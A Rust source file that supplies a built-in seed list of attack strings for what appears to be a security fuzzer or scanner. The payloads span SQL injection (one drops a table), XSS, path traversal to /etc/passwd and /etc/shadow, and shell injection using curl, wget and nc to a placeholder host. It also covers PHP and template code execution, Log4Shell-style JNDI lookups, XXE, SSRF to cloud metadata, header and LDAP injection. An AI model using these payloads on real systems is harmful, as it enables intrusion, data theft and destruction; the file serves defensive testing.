//! Attacks of our own, so that there is always something to mutate.

use crate::table::Class;

pub(crate) const OWN: &[(Class, &[&str])] = &[
    (
        Class::Sql,
        &[
            "7' or 1=1 -- -",
            "-3 union select null,version(),null-- -",
            "4 and sleep(5)",
            "x' and 8>2 and 'k'='k",
            "9; drop table orders-- -",
            "5' union select login,secret from members where grade='gold'#",
            "2 and (select count(*) from information_schema.tables)>0",
            "11 order by 8-- -",
        ],
    ),
    (
        Class::Markup,
        &[
            "<img src=q onerror=alert(1)>",
            "<svg onload=alert(document.cookie)>",
            "\"><body onload=alert(7)>",
            "<script>alert(1)</script>",
            "<a href=\"javascript:alert(1)\">open</a>",
            "<details open ontoggle=alert(1)>",
            "<iframe src=javascript:alert(1)></iframe>",
        ],
    ),
    (
        Class::Path,
        &[
            "../../../../etc/passwd",
            "../../../../../../etc/shadow",
            "/etc/passwd",
            "../../../windows/win.ini",
            "../../app/config/database.yml",
        ],
    ),
    (
        Class::Shell,
        &[
            ";cat /etc/passwd",
            "| id",
            "8.8.8.8; uname -a",
            "x`whoami`",
            "$(curl http://192.0.2.9/k.sh)",
            "q && wget http://192.0.2.9/k",
            "n|nc 192.0.2.9 4444",
        ],
    ),
    (
        Class::Php,
        &[
            "<?php system('id'); ?>",
            "<?php echo shell_exec('uname -a'); ?>",
            "php://filter/convert.base64-encode/resource=settings.php",
            "${system('id')}",
            "<?php eval(base64_decode('aWQ=')); ?>",
            "1;phpinfo();",
        ],
    ),
    (
        Class::Template,
        &[
            "{{7*7}}",
            "${7*7}",
            "{{ ''.__class__.__mro__ }}",
            "{{config.__class__.__init__.__globals__}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{{ request.application.__globals__.__builtins__ }}",
        ],
    ),
    (
        Class::NoSql,
        &[
            "{\"$ne\":null}",
            "{\"login\":{\"$ne\":null},\"secret\":{\"$gt\":\"\"}}",
            "' || 1==1//",
            "{\"$where\":\"sleep(2000)\"}",
            "x' || 1==1 || 'q",
        ],
    ),
    (
        Class::Jndi,
        &[
            "${jndi:ldap://192.0.2.7/a}",
            "${jndi:ldap://a.example.org:1389/Basic/k}",
            "${jndi:dns://q.example.org}",
        ],
    ),
    (
        Class::Xml,
        &[
            "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY k SYSTEM \"file:///etc/passwd\">]><q>&k;</q>",
            "<!DOCTYPE q [<!ENTITY k SYSTEM \"http://192.0.2.7/x\">]><q>&k;</q>",
            "<!DOCTYPE q [<!ENTITY % p SYSTEM \"http://192.0.2.7/x.dtd\"> %p;]><q/>",
        ],
    ),
    (
        Class::Fetch,
        &[
            "http://127.0.0.1:8080/admin",
            "http://169.254.169.254/latest/meta-data/",
            "http://127.0.0.1/server-status",
            "http://10.0.0.5:9200/_cat/indices",
        ],
    ),
    (
        Class::Lines,
        &[
            "en\r\nSet-Cookie: k=7",
            "/home\r\nLocation: http://x.example.org",
            "q\r\n\r\n<script>alert(1)</script>",
        ],
    ),
    (Class::Ldap, &["*)(uid=*))(|(uid=*", "admin)(&(objectClass=*", "x*)(|(mail=*))", "*)(cn=*)"]),
];
